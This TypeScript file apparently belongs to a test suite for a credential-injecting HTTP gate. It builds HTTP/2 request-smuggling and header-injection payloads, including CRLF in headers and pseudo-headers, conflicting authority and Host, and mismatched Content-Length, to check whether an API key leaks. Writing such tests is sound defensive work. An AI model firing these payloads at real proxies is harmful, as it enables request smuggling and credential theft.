import type { Attack } from '../attack.ts';
import { Unsupported } from '../attack.ts';
import { HTTP2_PREFACE, createHttp2Request } from '../http2-frames.ts';
import { SMUGGLED } from '../judge.ts';
import type { Exchange, Session } from '../session.ts';
import { REFLECTING_PATH, credentialOf } from '../upstreams.ts';
import type { UpstreamRequest } from '../upstreams.ts';

type Fields = readonly (readonly [name: string, value: string])[];

interface Trick {
  readonly id: string;
  readonly title: string;
  readonly reference: string;
  readonly leak?: string;
  readonly to?: 'bound' | 'unbound';
  /** Fields in place of, or beside, those of an honest request. */
  readonly write: (session: Session) => readonly Fields[];
  readonly body?: (session: Session) => string;
}

const ORDER = [':method', ':scheme', ':authority', ':path'] as const;

/** The fields of an honest request, some replaced, others added. */
function fields(session: Session, changes: Fields = [], to: 'bound' | 'unbound' = 'bound'): Fields {
  const honest = new Map([[':method', 'GET'], [':scheme', 'https'], [':authority', session.target[to]], [':path', '/h2']]); // prettier-ignore
  const added: (readonly [string, string])[] = [];
  for (const [name, value] of changes) {
    if (honest.has(name)) honest.set(name, value);
    else added.push([name, value]);
  }
  return [
    ...ORDER.map((name) => [name, honest.get(name)!] as const),
    ['x-api-key', session.target.placeholder],
    ...added,
  ];
}

/** A request that no gate has seen, or the value would be in it. */
function hidden({ target }: Session): string {
  return `GET /${SMUGGLED} HTTP/1.1\r\nHost: ${target.bound}\r\nX-Api-Key: ${target.placeholder}\r\n\r\n`;
}

/** What ends a field line, and the request with it, where CR and LF get through. */
function inject(session: Session): string {
  return `\r\nContent-Length: 0\r\n\r\n${hidden(session)}`;
}

const TRICKS: readonly Trick[] = [
  { id: 'value-crlf', title: 'CR, LF and NUL in a field value', reference: 'RFC 9113 section 8.2.1', write: (s) => [`a${inject(s)}`, 'a\nx-injected: b', 'a\rx-injected: b', 'a\0b'].map((value) => fields(s, [['x-a', value]])) },
  { id: 'name-crlf', title: 'CR, LF, colon and space in a field name', reference: 'RFC 9113 section 8.2.1', write: (s) => [`x${inject(s)}`, 'x\r\nhost', 'x: y\r\nz', 'x y', 'x:y', ''].map((name) => fields(s, [[name, 'v']])) },
  { id: 'path-crlf', title: 'CR, LF and blanks in :path', reference: 'RFC 9113 section 8.3.1', write: (s) => [`/h2 HTTP/1.1${inject(s)}`, '/h2 x', '/h2\tx', '/h2\n', ''].map((path) => fields(s, [[':path', path]])) },
  { id: 'method-crlf', title: 'CR, LF and blanks in :method', reference: 'RFC 9113 section 8.3.1', write: (s) => [`GET / HTTP/1.1${inject(s)}`, 'GET /x', 'GET\r\n', 'G(T'].map((method) => fields(s, [[':method', method]])) },
  { id: 'scheme', title: ':scheme with a host, CRLF, or not https', reference: 'RFC 9113 section 8.3.1', write: (s) => [`https://${s.target.unbound}/x?`, 'http', `https\r\nx: y`].map((scheme) => fields(s, [[':scheme', scheme]])) },
  { id: 'authority-other', title: ':authority of the unbound host on the connection of the bound one', reference: 'RFC 9113 section 8.3.1', leak: 'the value, to another tenant', write: (s) => [fields(s, [[':authority', s.target.unbound]]), fields(s, [[':authority', `${s.target.bound}@${s.target.unbound}`]]), fields(s, [[':authority', `${s.target.bound}\r\nx: y`]])] },
  { id: 'authority-bound', title: ':authority of the bound host on the connection of the unbound one (coalescing)', reference: 'RFC 9113 section 9.1.1', leak: 'the value, to another host', to: 'unbound', write: (s) => [fields(s, []), fields(s, [['host', s.target.unbound]])] },
  { id: 'host-other', title: 'Host and :authority of different hosts', reference: 'RFC 9113 section 8.3.1', leak: 'the value, to another tenant', write: (s) => [fields(s, [['host', s.target.unbound]]), fields(s, [[':authority', s.target.unbound], ['host', s.target.bound]])] },
  { id: 'two-authorities', title: 'Two :authority fields, a late one, an unknown pseudo-field', reference: 'RFC 9113 section 8.3', write: (s) => [[...fields(s), [':authority', s.target.unbound]], [[':authority', s.target.unbound], ...fields(s)], [...fields(s), [':x', 'y']]] },
  { id: 'connection-fields', title: 'Transfer-Encoding, Connection and Upgrade', reference: 'RFC 9113 section 8.2.2', body: (s) => `0\r\n\r\n${hidden(s)}`, write: (s) => [['transfer-encoding', 'chunked'], ['connection', 'x-api-key'], ['upgrade', 'h2c'], ['te', 'chunked'], ['proxy-connection', 'close']].map(([name = '', value = '']) => fields(s, [[':method', 'POST'], [name, value]])) },
  { id: 'length', title: 'Content-Length that is not the body’s', reference: 'RFC 9113 section 8.1.1', body: hidden, write: (s) => ['0', '1', '99999', '+5', '5, 5'].map((length) => fields(s, [[':method', 'POST'], ['content-length', length]])) },
  { id: 'uppercase', title: 'Field names in upper case', reference: 'RFC 9113 section 8.2', write: (s) => [fields(s, [['X-Upper', 'y']]), fields(s, [['Host', s.target.unbound]])] },
]; // prettier-ignore

/** What shows that the tricks can hit: beside them, a request that is honest. */
const HONEST_PATH = '/honest-h2';

async function run(session: Session, trick: Trick, upstream: readonly string[]): Promise<void> {
  session.answer(undefined, upstream);
  const { to = 'bound' } = trick;
  const exchange = (host: 'bound' | 'unbound', alpn: readonly string[], request: Buffer): Promise<Exchange> =>
    session.exchange({ to: host, alpn, send: [Buffer.concat([HTTP2_PREFACE, request])] });
  const findHonest = (): UpstreamRequest | undefined => session.requests.find(({ target }) => target === HONEST_PATH);
  // A gate may mirror what a host offered before where a client leaves it the choice, or offer upstream what the client offered alone.
  for (const alpn of [['h2'], ['h2', 'http/1.1']]) {
    const probe = await exchange('bound', alpn, createHttp2Request(1, fields(session, [[':path', HONEST_PATH]])));
    const honest = findHonest();
    if (probe.alpn !== 'h2' || honest === undefined) continue;
    if (credentialOf(honest) !== session.target.value) {
      throw new Error('the honest request by HTTP/2 did not get the value');
    }
    const requests = trick.write(session).map((one) => createHttp2Request(1, one, trick.body?.(session)));
    await Promise.all(requests.map((request) => exchange(to, alpn, request)));
    return;
  }
  throw new Unsupported(`the gate brings no HTTP/2 request to an upstream that offers ${upstream.join(' and ')}`);
}

const LEAK = 'the value, in a request of the attacker’s making behind the gate';

/** The same as in HTTP/1.1, in DATA. */
const REFLECTION: Attack = {
  id: 'h2-reflect',
  title: 'The value comes back in DATA',
  reference: 'RFC 9113 section 6.1',
  leak: 'the value, to the program in the sandbox',
  category: 'http2',
  needs: ['redaction'],
  run: (session) =>
    run(session, { ...REFLECTION, write: () => [fields(session, [[':path', REFLECTING_PATH]])] }, ['h2', 'http/1.1']),
};

/** Each trick towards an HTTP/2 upstream, and downgraded to HTTP/1.1. */
export const HTTP2_ATTACKS: readonly Attack[] = [...TRICKS.flatMap((trick) =>
  ([['h2', ['h2', 'http/1.1']], ['downgrade', ['http/1.1']]] as const).map(
    ([prefix, protocols]): Attack => ({
      id: `${prefix}-${trick.id}`,
      title: `${trick.title} (${prefix === 'h2' ? 'HTTP/2 upstream' : 'HTTP/1.1 upstream'})`,
      reference: trick.reference,
      leak: trick.leak ?? LEAK,
      category: 'http2',
      run: (session) => run(session, trick, protocols),
    }),
  ),
), REFLECTION]; // prettier-ignore
